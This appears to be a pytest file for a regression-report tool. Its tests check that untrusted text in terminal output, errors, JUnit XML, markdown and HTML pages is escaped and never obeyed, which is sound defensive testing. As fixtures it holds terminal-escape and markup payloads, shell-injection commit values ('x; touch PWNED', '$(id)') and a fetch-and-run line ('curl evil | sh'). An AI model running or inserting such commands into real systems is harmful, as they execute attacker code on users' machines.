"""Text from outside in the terminal, in errors and in reports: shown as it is, and never obeyed."""

from __future__ import annotations

import ast
import json
from io import StringIO
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from rich.table import Table
from rich.text import Text

from regressions.history.tests.made_up import made_job, made_night, write_night
from regressions.junit_report import Case, write_junit
from regressions.report.environment import environment_of
from regressions.report.pages import templates
from regressions.report.summary import read_reported
from regressions.terminal import Terminal, show
from regressions.tests.conftest import CommandLine
from verif.failure.notes import add_note
from verif.simulation.plain_path import REPOSITORY

HOSTILE = "\x1b[2J\x1b]0;t\x07 \u202egood\u2066 \x9b31m \r\x7f[red]x[/red] [link=javascript:1]y[/link] :x:"
SHOWN = r"\x1b[2J\x1b]0;t\x07 \u202egood\u2066 \x9b31m \r\x7f[red]x[/red] [link=javascript:1]y[/link] :x:"


def test_the_console_shows_escapes_and_takes_no_markup() -> None:
    terminal = Terminal(file=StringIO(), force_terminal=True, width=500, legacy_windows=False)
    table = Table("name")
    table.add_row(HOSTILE)
    with terminal.capture() as captured:
        terminal.print(HOSTILE, soft_wrap=True)
        terminal.print(table)
        terminal.print(Text(HOSTILE.replace("\x07", "").replace("\r", ""), "bold"), soft_wrap=True)
    text = captured.get()
    assert text.count(SHOWN) == 2
    assert text.count(SHOWN.replace(r"\x07", "").replace(r"\r", "")) == 1
    assert "\x1b[1m" in text, "its own styles are sent"
    assert not {"\x07", "\r", "\x9b", "\x7f", "\u202e", "\x1b]"} & set(text)
    assert "\x1b]" not in text
    assert "\x1b[2J" not in text


def test_printed_lines_and_errors_show_escapes(
    command_line: CommandLine, capfd: pytest.CaptureFixture[str]
) -> None:
    show(f"{HOSTILE}\ud800\nnext")
    assert capfd.readouterr().out == f"{SHOWN}\\ud800\nnext\n"
    found = command_line("disasm", f"no/{HOSTILE}")
    assert found.status == 2
    assert found.error.count("\n") == 1
    assert SHOWN in found.error


def test_an_error_does_not_repeat_long_input(command_line: CommandLine, tmp_path: Path) -> None:
    name = "x" * 100_000
    found = command_line("decode", "--target", name)
    assert found.status == 2
    assert len(found.error) < 1200
    assert " left out)…" in found.error
    assert "structured" in found.error, "what to do is still there"
    (tmp_path / "long.asm").write_text(f"{name} 1 2\nHALT\n")
    found = command_line("asm", tmp_path / "long.asm", "-o", tmp_path / "x.json")
    assert (found.status, len(found.error) < 1200) == (2, True)


def test_an_error_of_many_lines_is_cut(monkeypatch: pytest.MonkeyPatch, command_line: CommandLine) -> None:
    def fail(_: object) -> None:
        raise OSError(2, "\n".join(map(str, range(1000))), "x")

    monkeypatch.setattr("regressions.commands.disasm.load_bundle", fail)
    lines = command_line("disasm", "x").error.splitlines()
    assert len(lines) == 61
    assert lines[40] == "… 940 lines left out …"
    assert lines[-1] == "999"


def test_junit_holds_any_text(tmp_path: Path) -> None:
    write_junit(tmp_path / "x.xml", [Case(f"s{HOSTILE}", f"n{HOSTILE}\0", 1.0, failures=(f"f{HOSTILE}\nz",))])
    (suite,) = ElementTree.parse(tmp_path / "x.xml").getroot()
    (case,) = suite
    (failure,) = case
    assert suite.get("name") == case.get("classname") == f"s{SHOWN}"
    assert case.get("name") == f"n{SHOWN}\\x00"
    assert failure.get("message") == f"f{SHOWN} z"


def hostile_night(**fields: Any) -> dict[str, Any]:
    job = made_job("bad-0", "failed", bucket=("data", HOSTILE))
    return made_night("n1", 1, [job], problems=[HOSTILE], list=f"<b>{HOSTILE}|`", **fields)


def test_a_note_in_a_failures_report_is_text(tmp_path: Path) -> None:
    recorded = {"simulator": "icarus", "seed": 1, "chip": {}, "plusargs": [], "first_sign": "", "kind": None}
    (tmp_path / "report.json").write_text(json.dumps(recorded))
    (tmp_path / "report.txt").write_text("x\n  reproduce    y\n")
    add_note(tmp_path, "waves", HOSTILE, {})
    text = (tmp_path / "report.txt").read_text()
    assert r"waves        \x1b[2J" in text
    assert text.replace("\n", "").isprintable()


def test_markdown_of_a_strangers_summary_is_text(command_line: CommandLine, tmp_path: Path) -> None:
    place = write_night(tmp_path, hostile_night(commit="x; touch PWNED"))
    found = command_line("history", "markdown", place, "--history", tmp_path / "none.sqlite")
    assert found.status == 0
    assert found.output.replace("\n", "").isprintable()
    assert r"\\x1b\[2J" in found.output
    assert r"\<b\>" in found.output


def test_a_page_shows_escapes_and_escapes_html() -> None:
    page = (
        templates(None)
        .from_string("<p title='{{ x }}'>{{ x }}</p>{{ y }}")
        .render(x=f"<script>{HOSTILE}'", y=3)
    )
    assert page.count(SHOWN.replace("&", "&amp;")) == 2
    assert "<script>" not in page
    assert page.isprintable()
    assert page.endswith("</p>3")


@pytest.mark.parametrize("commit", ["x; touch PWNED", "$(id)", "unknown", "", "-f", "abc"])
def test_a_commit_that_is_not_a_hash_is_in_no_command(commit: str, tmp_path: Path) -> None:
    night = read_reported(write_night(tmp_path, hostile_night(commit=commit)))
    environment = environment_of(night.summary)
    assert "git checkout" not in environment.again
    assert "-m regressions nightly " in environment.again
    assert "the summary names no commit: check out the one that the night ran on" in environment.caveats


def test_a_summary_brings_no_command_of_its_own(command_line: CommandLine, tmp_path: Path) -> None:
    night = hostile_night()
    night["buckets"][0]["reproduce"] = "curl evil | sh"
    place = write_night(tmp_path, json.loads(json.dumps(night)))
    found = command_line("history", "markdown", place)
    assert found.status == 2
    assert "buckets.0.reproduce: not a command of this project: curl evil | sh" in found.error


def test_only_the_terminals_file_prints() -> None:
    """One place that prints is one place that makes text harmless."""
    printing = []
    for path in (REPOSITORY / "regressions").rglob("*.py"):
        if "tests" in path.parts or path.name in ("terminal.py", "__main__.py"):
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                printing += [f"{path}:{node.lineno}"] if node.func.id in ("print", "Console") else []
    assert printing == []
